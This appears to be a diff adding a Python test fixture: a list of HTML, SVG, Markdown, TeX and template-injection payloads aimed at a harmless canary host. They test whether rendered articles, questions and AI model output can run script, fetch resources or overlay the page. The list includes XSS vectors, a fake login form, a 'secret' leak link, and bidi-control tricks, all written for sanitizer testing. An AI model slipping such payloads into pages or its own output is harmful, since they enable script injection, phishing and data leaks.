@@ -1,0 +1,55 @@
+"""Texts that try to be more than text: in an article, in what a model writes, in a question.
+
+Each would ask for an address with CANARY in it, set `window.CANARY`, or draw over the page, if it were markup.
+"""
+
+CANARY = "canary"
+_AT = f"http://{CANARY}.invalid/"
+
+PAYLOADS = [
+    f"<script>window.{CANARY}=1;fetch('{_AT}script')</script>",
+    f"<script src={_AT}src.js></script>",
+    f"<img src={_AT}img.png>",
+    f'<img src=x onerror="window.{CANARY}=1">',
+    f"<img srcset='{_AT}a.png 1x, {_AT}b.png 2x'>",
+    f"<picture><source srcset={_AT}source.png><img></picture>",
+    f"<svg onload='window.{CANARY}=1'><image href={_AT}image.svg /></svg>",
+    f"<svg><use href='{_AT}use.svg#a'/></svg>",
+    f"<svg><style>*{{background:url({_AT}svgstyle)}}</style></svg>",
+    f"<style>@import '{_AT}import.css'; body{{background:url({_AT}body.png)}}</style>",
+    f"<link rel=stylesheet href={_AT}link.css>",
+    f"<link rel=prefetch href={_AT}prefetch>",
+    f"<div style=\"background:url('{_AT}div.png')\">div</div>",
+    f"<div style='position:fixed;inset:0;z-index:9999;background:red' class={CANARY}-overlay>Session expired</div>",
+    f"<form action={_AT}login><input type=password name={CANARY}><button>Log in</button></form>",
+    f"<video src={_AT}video.mp4 autoplay poster={_AT}poster.png></video>",
+    f"<audio src={_AT}audio.mp3 autoplay></audio>",
+    f"<iframe src='{_AT}frame'></iframe>",
+    f"<iframe srcdoc='<img src={_AT}srcdoc>'></iframe>",
+    f"<object data={_AT}object></object>",
+    f"<embed src={_AT}embed>",
+    f"<base href={_AT}>",
+    f"<meta http-equiv=refresh content='0;url={_AT}refresh'>",
+    f"<body onload=window.{CANARY}=1>",
+    f"<details open ontoggle=window.{CANARY}=1>x</details>",
+    f"<input autofocus onfocus=window.{CANARY}=1>",
+    f'<a href="javascript:window.{CANARY}=1">read more</a>',
+    f"<a href={_AT}leak?q=secret>read more</a>",
+    f"![image]({_AT}markdown.png)",
+    f"![image][ref]\n\n[ref]: {_AT}reference.png",
+    f"[link]({_AT}markdown-link) and <{_AT}autolink>",
+    f"[click](javascript:window.{CANARY}=1)",
+    f"$$\\href{{{_AT}tex}}{{x}}$$ \\includegraphics{{{_AT}tex.png}}",
+    f'<noscript><p title="</noscript><img src={_AT}mxss onerror=window.{CANARY}=1>"></noscript>',
+    f"<math><mtext><table><mglyph><style><img src={_AT}mathml onerror=window.{CANARY}=1></style></mglyph></table>",
+    f'"><img src={_AT}attribute onerror=window.{CANARY}=1>',
+    f"' onmouseover='window.{CANARY}=1' data-x='",
+    f"</textarea></title></style></script><img src={_AT}closing>",
+    f"${{window.{CANARY}=1}} {{{{constructor.constructor('window.{CANARY}=1')()}}}} {{{{#with this}}}}{{{{/with}}}}",
+    f'__i18n__{{"__type__":"translation_metadata","key":"{CANARY}"}}',
+    f"```html\n<img src={_AT}fence>\n``` `<img src={_AT}code>`",
+    '<span class="ch-chip" data-do="open">[1] Reuters</span>',
+    f"&lt;img src={_AT}entity&gt; &#60;script&#62;window.{CANARY}=1&#60;/script&#62;",
+    "\u202egnp.exe \u2066isolated\u2069 zero\u200bwidth\u200d \u061c\u200f mark",
+    f"<template><img src={_AT}template></template><slot></slot><gradio-app src={_AT}app></gradio-app>",
+]
